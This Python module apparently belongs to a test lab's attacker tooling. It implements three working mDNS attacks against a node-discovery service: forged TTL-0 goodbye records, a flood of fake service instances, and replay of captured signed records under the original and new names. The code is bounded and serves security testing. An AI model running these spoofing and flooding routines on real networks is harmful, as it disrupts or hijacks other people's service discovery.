"""mDNS attacks from the attacker machine (no token): floods, forged goodbyes, replays.

The attacker sees every multicast announcement on the segment, so it learns the fleet's instance
names and their signed TXT records by simply browsing. It then:

- ``mdns-goodbye``: sends TTL-0 records for every instance it learned (PTR only, or with
  ``--all-records`` PTR, SRV, TXT and A), repeatedly, as python-zeroconf honours from anyone;
- ``mdns-flood``: announces ``--count`` random instance names of ``_k3snoded._tcp.local.``
  with unsigned or garbage TXT records;
- ``mdns-replay``: re-announces the captured signed records later, under their own instance
  names and under new ones.

Packets are built with python-zeroconf's DNSOutgoing and sent from the attacker's address to
224.0.0.251:5353 on eth0 only. Everything is bounded in count and time.
"""

from __future__ import annotations

import argparse
import os
import socket
import time
from collections.abc import Callable, Iterable
from typing import Any

from zeroconf import (
    IPVersion,
    ServiceBrowser,
    ServiceInfo,
    ServiceStateChange,
    Zeroconf,
    const,
)
from zeroconf._dns import DNSAddress, DNSPointer, DNSRecord, DNSService, DNSText
from zeroconf._protocol.outgoing import DNSOutgoing

from tests.lab.attacker import emit, own_address, paced

SERVICE_TYPE = "_k3snoded._tcp.local."
GROUP = ("224.0.0.251", 5353)
MAX_COUNT = 20_000
_FLAGS = const._FLAGS_QR_RESPONSE | const._FLAGS_AA
_IN, _UNIQUE = const._CLASS_IN, const._CLASS_UNIQUE
_PTR, _SRV, _TXT, _A = const._TYPE_PTR, const._TYPE_SRV, const._TYPE_TXT, const._TYPE_A

Learned = dict[str, ServiceInfo | None]


def mdns_socket() -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    address = str(own_address())
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    s.bind((address, 0))
    return s


def send(sock: socket.socket, records: Iterable[DNSRecord]) -> int:
    out = DNSOutgoing(_FLAGS)
    for record in records:
        out.add_answer_at_time(record, 0)
    sent = 0
    for payload in out.packets():
        sock.sendto(payload, GROUP)
        sent += 1
    return sent


def learn(seconds: float, *, with_txt: bool) -> Learned:
    """Browse ``_k3snoded._tcp.local.`` for ``seconds``: instance names (and their records)."""
    zc = Zeroconf(interfaces=[str(own_address())], ip_version=IPVersion.V4Only)
    names: set[str] = set()

    def on_change(
        zeroconf: Zeroconf, service_type: str, name: str, state_change: ServiceStateChange
    ) -> None:
        names.add(name)

    browser = ServiceBrowser(zc, [SERVICE_TYPE], handlers=[on_change])
    try:
        time.sleep(min(seconds, 60))
        learned: Learned = {}
        for name in sorted(names):
            learned[name] = zc.get_service_info(SERVICE_TYPE, name, 2000) if with_txt else None
    finally:
        browser.cancel()
        zc.close()
    emit("learned", instances=sorted(learned))
    return learned


def _records(name: str, info: ServiceInfo | None, ttl: int) -> list[DNSRecord]:
    records: list[DNSRecord] = [DNSPointer(SERVICE_TYPE, _PTR, _IN, ttl, name)]
    if info is not None:
        server = info.server or name
        records.append(DNSService(name, _SRV, _IN | _UNIQUE, ttl, 0, 0, info.port or 0, server))
        records.append(DNSText(name, _TXT, _IN | _UNIQUE, ttl, info.text or b""))
        records += [DNSAddress(server, _A, _IN | _UNIQUE, ttl, a) for a in info.addresses[:1]]
    return records


def mdns_goodbye(args: argparse.Namespace) -> dict[str, int]:
    learned = learn(args.learn, with_txt=args.all_records)
    sent = 0
    with mdns_socket() as sock:
        for _ in paced(args.rate, args.duration):
            for name, info in learned.items():
                sent += send(sock, _records(name, info if args.all_records else None, 0))
    return {"instances": len(learned), "packets": sent}


def mdns_flood(args: argparse.Namespace) -> dict[str, int]:
    count = min(args.count, MAX_COUNT)
    address = own_address().packed
    sent = 0
    with mdns_socket() as sock:
        batch: list[DNSRecord] = []
        for i in range(count):
            name = f"x{os.urandom(5).hex()}-{i}.{SERVICE_TYPE}"
            server = f"x{i}.local."
            txt = b"\x03v=1\x04n=n9\x05c=lab\x0asig=forged" if i % 2 else os.urandom(24)
            batch += [
                DNSPointer(SERVICE_TYPE, _PTR, _IN, 4500, name),
                DNSService(name, _SRV, _IN | _UNIQUE, 120, 0, 0, 6480, server),
                DNSText(name, _TXT, _IN | _UNIQUE, 4500, txt),
                DNSAddress(server, _A, _IN | _UNIQUE, 120, address),
            ]
            if len(batch) >= 4 * args.per_packet:
                sent += send(sock, batch)
                batch = []
                time.sleep(1 / max(args.rate, 1))
        if batch:
            sent += send(sock, batch)
    return {"instances": count, "packets": sent}


def mdns_replay(args: argparse.Namespace) -> dict[str, int]:
    learned = {k: v for k, v in learn(args.learn, with_txt=True).items() if v is not None}
    time.sleep(min(args.delay, 60))
    sent = 0
    with mdns_socket() as sock:
        for i in paced(args.rate, args.duration):
            for name, info in learned.items():
                sent += send(sock, _records(name, info, 120))  # under its own name
                alias = f"replay{i % 3}-{name}"  # and under names of our own
                clone = ServiceInfo(
                    SERVICE_TYPE, alias, port=info.port, properties=info.text or b"",
                    server=info.server, addresses=info.addresses,
                )  # fmt: skip
                sent += send(sock, _records(alias, clone, 120))
    return {"instances": len(learned), "packets": sent}


def add_commands(
    sub: Any, commands: dict[str, Callable[[argparse.Namespace], dict[str, int]]]
) -> None:
    g = sub.add_parser("mdns-goodbye")
    g.add_argument("--learn", type=float, default=2.0, help="seconds of browsing first")
    g.add_argument("--all-records", action="store_true", help="also SRV, TXT and A goodbyes")
    g.add_argument("--rate", type=float, default=2.0, help="rounds of goodbyes per second")
    g.add_argument("--duration", type=float, default=6.0)
    f = sub.add_parser("mdns-flood")
    f.add_argument("--count", type=int, default=10_000)
    f.add_argument("--per-packet", type=int, default=4)
    f.add_argument("--rate", type=float, default=500.0, help="packets per second")
    r = sub.add_parser("mdns-replay")
    r.add_argument("--learn", type=float, default=2.0)
    r.add_argument("--delay", type=float, default=2.0, help="seconds between capture and replay")
    r.add_argument("--rate", type=float, default=2.0)
    r.add_argument("--duration", type=float, default=4.0)
    commands.update({"mdns-goodbye": mdns_goodbye, "mdns-flood": mdns_flood,
                     "mdns-replay": mdns_replay})  # fmt: skip
